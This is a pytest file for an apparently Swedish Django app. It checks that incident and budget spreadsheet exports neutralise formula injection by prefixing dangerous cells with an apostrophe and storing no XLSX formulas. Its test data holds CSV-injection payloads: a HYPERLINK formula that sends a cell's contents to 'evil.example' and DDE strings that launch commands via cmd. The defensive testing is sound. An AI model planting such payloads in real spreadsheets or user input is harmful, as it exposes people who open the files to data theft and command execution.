"""CSV/XLSX formula injection: text a user typed never reaches a spreadsheet as a formula.

Every spreadsheet export (incidents as CSV and XLSX, the budget package as XLSX) gets
free text that starts like a formula; each such cell must come out inert (a leading
apostrophe), and no XLSX cell may be stored as a formula at all.
"""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse

from tests.factories import (
    ActivityFactory,
    AllocationFactory,
    CategoryFactory,
    CommitteeFactory,
    ExpenditureFactory,
    IncidentFactory,
    PlaceFactory,
)

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
STARTS = ("=", "+", "-", "@", "\t", "\r")


def _client(user):
    client = Client()
    client.force_login(user)
    return client


def _text_cells(rows):
    return [v for row in rows for v in row if isinstance(v, str)]


def _assert_inert(cells, where):
    dangerous = [c for c in cells if c.startswith((*STARTS, "\n"))]
    assert dangerous == [], where
    # XML (XLSX) stores a carriage return as a line feed.
    cells = [c.replace("\r", "\n") for c in cells]
    for formula in FORMULAS:
        assert "'" + formula.replace("\r", "\n") in cells, (where, formula)


@pytest.fixture
def poisoned_incidents(role_users):
    police = role_users["polis"].organisation
    for n, text in enumerate(FORMULAS):
        place = PlaceFactory(name=f"{text} {n}"[:100])
        IncidentFactory(
            organisation=police,
            area=place.area,
            place=place,
            category=CategoryFactory(name=f"{text}"[:100]),
            assessment=text,
            external_id=f"{text}"[:60] + str(n),
        )


@pytest.mark.django_db
def test_incident_csv_is_inert(role_users, poisoned_incidents):
    response = _client(role_users["polis"]).get(
        reverse("lagesbild:incident_export", kwargs={"fmt": "csv"})
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert len(rows) == len(FORMULAS) + 1
    _assert_inert(_text_cells(rows[1:]), "incident csv")


@pytest.mark.django_db
def test_incident_xlsx_is_inert(role_users, poisoned_incidents):
    response = _client(role_users["polis"]).get(
        reverse("lagesbild:incident_export", kwargs={"fmt": "xlsx"})
    )
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert len(rows) == len(FORMULAS)
    _assert_inert(_text_cells(rows), "incident xlsx")


@pytest.mark.django_db
def test_budget_xlsx_is_inert(role_users):
    first = AllocationFactory(label="Kulturnämnden")
    for n, text in enumerate(FORMULAS):
        allocation = AllocationFactory(
            theme=first.theme, label=text, committee=CommitteeFactory(name=f"{text}{n}")
        )
        ActivityFactory(allocation=allocation, text=text)
        ExpenditureFactory(allocation=allocation, note=text, amount=Decimal("10"))
    response = _client(role_users["samordnare"]).get(
        reverse("budget:export", kwargs={"pk": first.theme.package_id})
    )
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    cells = []
    for sheet in book.worksheets:
        assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"], sheet
        cells += _text_cells(sheet.iter_rows(min_row=2, values_only=True))
    _assert_inert(cells, "budget xlsx")
